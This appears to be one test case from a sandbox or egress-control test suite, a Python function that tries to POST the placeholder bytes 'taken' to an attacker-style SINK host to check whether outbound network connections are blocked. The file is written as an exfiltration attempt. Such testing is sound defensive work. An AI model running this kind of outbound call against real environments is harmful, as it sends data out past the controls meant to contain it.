# class: network
# rule: outbound_connectivity
# success: the environment is posted by urllib
# proof: sink
import urllib.request

from attack import SINK, attempt


@attempt
def post():
    return urllib.request.urlopen("http://%s:%d/" % SINK, b"taken", timeout=5).read() == b"ok"
